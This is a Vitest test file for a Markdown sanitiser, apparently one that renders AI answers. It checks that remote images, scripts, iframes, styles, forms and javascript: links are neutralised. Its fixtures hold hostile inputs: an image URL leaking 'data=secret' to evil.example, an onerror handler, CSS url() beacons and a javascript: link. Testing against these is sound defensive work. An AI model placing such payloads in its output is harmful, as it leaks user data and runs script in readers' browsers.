// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdownSafe } from "./markdown.ts";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("markdown answers are rendered safely", () => {
  it("turns a remote image into a link, so nothing is fetched", () => {
    const out = dom(renderMarkdownSafe("Here: ![chart](https://evil.example/leak?data=secret)"));
    expect(out.querySelector("img")).toBeNull();
    const a = out.querySelector("a")!;
    expect(a.getAttribute("href")).toBe("https://evil.example/leak?data=secret");
    expect(a.textContent).toBe("image: chart");
    expect(a.getAttribute("rel")).toContain("noreferrer");
  });

  it("turns a raw HTML image into a link too, and drops its event handlers", () => {
    const out = dom(renderMarkdownSafe('<img src="https://evil.example/x.png" onerror="alert(1)" alt="x">'));
    expect(out.querySelector("img")).toBeNull();
    expect(out.innerHTML).not.toContain("onerror");
    expect(out.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/x.png");
  });

  it("removes scripts, iframes, styles and forms", () => {
    const html = renderMarkdownSafe(
      '# Title\n\n<script>alert(1)</script>\n\n<iframe src="https://evil.example"></iframe>\n\n<style>body{background:url(https://evil.example/bg)}</style>\n\n<form action="https://evil.example"><input name="q"></form>\n\n<p style="background:url(https://evil.example/p)">text</p>',
    );
    const out = dom(html);
    expect(out.querySelector("script, iframe, style, form, input")).toBeNull();
    expect(html).not.toContain("evil.example");
    expect(out.querySelector("h1")?.textContent).toBe("Title");
    expect(out.textContent).toContain("text");
  });

  it("drops javascript: links but keeps ordinary ones", () => {
    const out = dom(renderMarkdownSafe("[bad](javascript:alert(1)) and [good](https://example.com/docs)"));
    const links = [...out.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([null, "https://example.com/docs"]);
  });

  it("keeps headings, lists and code as Markdown means them", () => {
    const out = dom(renderMarkdownSafe("## Decisions\n\n- ship it\n\n`code`"));
    expect(out.querySelector("h2")?.textContent).toBe("Decisions");
    expect(out.querySelector("li")?.textContent).toBe("ship it");
    expect(out.querySelector("code")?.textContent).toBe("code");
  });
});
